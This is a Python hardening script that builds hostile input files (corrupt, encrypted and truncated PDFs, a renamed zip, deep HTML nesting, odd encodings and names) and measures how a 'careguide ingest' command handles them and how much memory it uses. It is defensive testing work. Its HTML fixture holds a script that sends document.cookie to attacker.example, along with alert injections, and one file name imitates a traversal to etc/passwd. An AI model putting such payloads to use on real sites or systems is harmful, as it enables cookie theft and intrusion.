"""Hostile input files, and what `careguide ingest` makes of them: outcomes and peak memory.

    python -m careguide.eval.hostile_inputs [--keep DIR] [--pages 2000]

Writes a folder of broken, huge and strange files beside two good ones (``make_batch``),
runs ``careguide ingest`` on it in a subprocess with a fresh data directory, and prints
the CLI's summary (one line per file: status and the one-line reason) with the run's time
and peak RSS, and then the peak RSS of a ``careguide ingest --dry-run`` of the 2,000-page
PDF alone and of a one-page text file: read and cut into passages with no model loaded,
so the difference is the reader's and not the embedding model's. The
test ``tests/hardening/test_hostile_inputs.py`` builds the same batch and asserts the
outcomes; figures are printed here, never asserted.

reportlab and Pillow (dev and runtime dependencies) make the PDFs.
"""

from __future__ import annotations

import argparse
import io
import json
import math
import os
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

GOOD_TEMPLATE = """{Topic} support for families

1. Every local authority must publish a {topic} policy that explains the support
available to {carers}, including financial allowances and training.

2. {Carers} should be told in writing how to ask for a review of the support offered,
and the council should reply within twenty working days.
"""


def good_text(topic: str, carers: str) -> str:
    """A small, valid guidance text about ``topic``; each topic's passages are its own."""
    return GOOD_TEMPLATE.format(
        Topic=topic.capitalize(), topic=topic, carers=carers, Carers=carers.capitalize()
    )


GOOD_TEXT = good_text("kinship care", "kinship carers")
GOOD_MARKDOWN = """# Leaving care: personal advisers

Every care leaver is entitled to a personal adviser until the age of twenty-five. The
personal adviser helps the young person prepare a pathway plan and keeps in touch at least
every eight weeks.

The pathway plan must be reviewed at least every six months, and the young person should
be involved in every review of their plan.
"""
CP1252_TEXT = (
    "Allowances for kinship carers\n\n"
    "The council’s weekly allowance of £150 is paid to each carer – as agreed – and "
    "reviewed every year so that carers are not left out of pocket. "
) * 8
UTF16_TEXT = (
    "Family help services\n\n"
    "Family help brings together targeted early help and child in need work, so that "
    "families get support from one team without being passed between services. "
) * 8


@dataclass(frozen=True)
class Expected:
    """What must become of one file: ingested, or failed with a reason containing ``reason``."""

    status: str  # "ingested" | "failed" | "either" (image-only PDF: OCR may be absent)
    reason: str = ""


def _pdf(pages: list[list[str]], *, title: str = "Generated guidance") -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    sheet = canvas.Canvas(buffer, pagesize=A4)
    sheet.setTitle(title)
    for lines in pages:
        y = 780
        for line in lines:
            sheet.setFont("Helvetica", 11)
            sheet.drawString(72, y, line)
            y -= 18
        sheet.showPage()
    sheet.save()
    return buffer.getvalue()


def long_pdf(pages: int) -> bytes:
    """A text PDF of ``pages`` full pages, a chapter heading every 50 pages.

    The pages repeat a few sentences, so passages and sentences repeat too and embedding
    them costs little: the file is about size, not variety.
    """
    sentences = [
        "The local authority should review the plan for each child in its care.",
        "Every review meeting should record what was decided and who will act on it.",
        "The child's wishes and feelings should be heard at each review of the plan.",
    ]
    body = []
    for n in range(1, pages + 1):
        lines = [f"Chapter {n // 50 + 1}: Reviews, part {n // 50 + 1}"] if n % 50 == 1 else []
        lines += [sentences[(n + i) % len(sentences)] for i in range(30)]
        body.append(lines)
    return _pdf(body, title=f"A guide of {pages} pages")


def _encrypted(data: bytes) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(data))
    writer.encrypt("secret", "owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _image_only_pdf() -> bytes:
    from PIL import Image, ImageDraw, ImageFont

    page = Image.new("L", (1700, 2200), color=255)
    draw = ImageDraw.Draw(page)
    font = ImageFont.load_default(size=56)
    for i, line in enumerate(["Corporate parenting", "Children in care councils"]):
        draw.text((120, 150 + i * 110), line, fill=0, font=font)
    out = io.BytesIO()
    page.save(out, format="PDF", resolution=200.0)
    return out.getvalue()


def _corrupt(data: bytes) -> bytes:
    """The PDF with its cross-reference table and every stream overwritten by junk."""
    damaged = bytearray(data)
    for match in re.finditer(rb"stream\r?\n", data):
        start = match.end()
        damaged[start : start + 64] = bytes(range(64, 128))
    xref = data.rfind(b"xref")
    damaged[xref:] = b"\x00garbage\xff" * 40
    return bytes(damaged)


def nested_html(megabytes: float) -> bytes:
    """Scripts, handlers and about ``megabytes`` of nested tags around one real paragraph."""
    depth = 2000
    block = "<div><span>" * depth + "deep" + "</span></div>" * depth
    repeats = max(1, math.ceil(megabytes * 1024 * 1024 / len(block)))
    page = (
        "<!DOCTYPE html><html><head><title>Short breaks for disabled children</title>"
        "<script>document.write('<h1>owned</h1>'); alert(1)</script></head><body>"
        "<main><h1>Short breaks for disabled children</h1>"
        '<p onclick="alert(2)">Local authorities must provide a range of short breaks '
        "for disabled children and publish a statement of the breaks they offer.</p>"
        "<script>fetch('https://attacker.example/steal?c=' + document.cookie)</script>"
        f"{block * repeats}</main></body></html>"
    )
    return page.encode()


def _zip_renamed() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("report.pdf", _pdf([["1. A zipped report."]]))
    return buffer.getvalue()


# Names with path parts or non-ASCII characters. A POSIX file name cannot hold "/", so
# "../" appears as Windows separators in a name and as a "../" in the path given. (A name
# starting with "." is a hidden file, skipped by design, so this one starts with a letter.)
TRAVERSAL_NAME = "notes..\\..\\..\\etc\\passwd-kinship.txt"
UNICODE_NAME = "Kinship carers’ guide – café Łódź 子ども 😀.txt"
UNDECODABLE_NAME = b"latin1-\xe9t\xe9-guide.txt"  # not valid UTF-8: surrogate-escaped in Python


def make_batch(folder: Path, *, pages: int = 2000, html_mb: float = 10.0) -> dict[str, Expected]:
    """Write the hostile batch into ``folder``; returns each file's name and expected outcome.

    ``relative/..`` holds one good file reached through ``../`` in the path given to ingest
    (see ``ingest_arguments``).
    """
    folder.mkdir(parents=True, exist_ok=True)
    small = _pdf([["Chapter 1: Contact", "1. Contact with siblings should be promoted."]] * 3)
    files: dict[str, tuple[bytes, Expected]] = {
        "good-kinship.txt": (GOOD_TEXT.encode(), Expected("ingested")),
        "good-leaving-care.md": (GOOD_MARKDOWN.encode(), Expected("ingested")),
        "truncated.pdf": (small[: len(small) // 2], Expected("failed", "is not a readable PDF")),
        "corrupt.pdf": (_corrupt(small), Expected("failed", "corrupt.pdf")),
        "encrypted.pdf": (_encrypted(small), Expected("failed", "it is encrypted")),
        f"long-{pages}-pages.pdf": (long_pdf(pages), Expected("ingested")),
        "scanned-images-only.pdf": (_image_only_pdf(), Expected("either", "OCR")),
        "archive-renamed.pdf": (_zip_renamed(), Expected("failed", "is a zip archive")),
        "scripts-and-nesting.html": (nested_html(html_mb), Expected("ingested")),
        "windows-1252.txt": (CP1252_TEXT.encode("cp1252"), Expected("ingested")),
        "utf-16-bom.txt": (UTF16_TEXT.encode("utf-16"), Expected("ingested")),
        "empty.txt": (b"", Expected("failed", "is empty")),
        "nul-bytes.txt": (b"Kinship\x00care\x00" * 200, Expected("failed", "NUL bytes")),
        TRAVERSAL_NAME: (good_text("keepsake care", "keepsake carers").encode(), Expected("ingested")),
        UNICODE_NAME: (GOOD_MARKDOWN.replace("care leaver", "young person").encode(), Expected("ingested")),
    }  # fmt: skip
    expected: dict[str, Expected] = {}
    for name, (data, outcome) in files.items():
        (folder / name).write_bytes(data)
        expected[name] = outcome
    odd = os.fsdecode(UNDECODABLE_NAME)
    (folder / odd).write_bytes(CP1252_TEXT.replace("allowance", "grant").encode())
    expected[odd] = Expected("ingested")
    relative = folder / "relative"
    relative.mkdir(exist_ok=True)
    (folder / "reached-through-dotdot.txt").write_text(
        good_text("private fostering", "private foster carers"), encoding="utf-8"
    )
    expected["reached-through-dotdot.txt"] = Expected("ingested")
    return expected


def ingest_arguments(folder: Path) -> list[str]:
    """The paths to give `careguide ingest`: the folder, and one file by a ``../`` path."""
    return [str(folder), str(folder / "relative" / ".." / "reached-through-dotdot.txt")]


def careguide_command() -> list[str]:
    """`careguide` from the running interpreter's environment (works without activating it)."""
    return [sys.executable, "-m", "careguide.api"]


def run_measured(
    args: list[str], env: dict[str, str], timeout: float = 900
) -> tuple[int, str, str, float, float]:
    """Run a command; (exit code, stdout, stderr, seconds, the child's peak RSS in MB)."""
    started = time.perf_counter()
    with (
        tempfile.TemporaryFile() as out,
        tempfile.TemporaryFile() as err,
        subprocess.Popen(args, env=env, stdout=out, stderr=err) as child,
    ):
        deadline = time.monotonic() + timeout
        while True:
            pid, status, usage = os.wait4(child.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() > deadline:
                child.kill()
                pid, status, usage = os.wait4(child.pid, 0)
                break
            time.sleep(0.05)
        child.returncode = os.waitstatus_to_exitcode(status)  # reaped here, not by Popen
        seconds = time.perf_counter() - started
        out.seek(0)
        err.seek(0)
        return (
            child.returncode,
            out.read().decode("utf-8", "replace"),
            err.read().decode("utf-8", "replace"),
            seconds,
            usage.ru_maxrss / 1024,  # kilobytes on Linux
        )


def ingest_env(data_dir: Path) -> dict[str, str]:
    return {
        **os.environ,
        "CAREGUIDE_DATA_DIR": str(data_dir),
        "HF_HUB_OFFLINE": "1",
        "TRANSFORMERS_OFFLINE": "1",
        "COLUMNS": "300",  # one summary row per file, however long its note
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--keep", type=Path, help="Write the batch here and keep it.")
    parser.add_argument("--pages", type=int, default=2000)
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="careguide-hostile-") as tmp:
        folder = args.keep or Path(tmp) / "batch"
        started = time.perf_counter()
        expected = make_batch(folder, pages=args.pages)
        made = time.perf_counter() - started
        env = ingest_env(Path(tmp) / "data")
        code, _, err, seconds, rss = run_measured(
            [*careguide_command(), "ingest", *ingest_arguments(folder)], env
        )
        print(
            json.dumps(
                {"batch": len(expected), "made_s": round(made, 1), "exit": code,
                 "ingest_s": round(seconds, 1), "peak_rss_mb": round(rss)}
            )
        )  # fmt: skip
        for line in err.splitlines():
            print(line)
        # read and cut alone (no model): the long PDF, and a one-page file as the baseline
        dry_env = ingest_env(Path(tmp) / "dry")
        for path in (folder / f"long-{args.pages}-pages.pdf", folder / "good-kinship.txt"):
            code, out, _, seconds, rss = run_measured(
                [*careguide_command(), "ingest", "--dry-run", "--json", str(path)], dry_env
            )
            print(
                json.dumps(
                    {"dry_run": path.name, "bytes": path.stat().st_size, "exit": code,
                     "passages": len(out.splitlines()), "seconds": round(seconds, 1),
                     "peak_rss_mb": round(rss)}
                )
            )  # fmt: skip
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
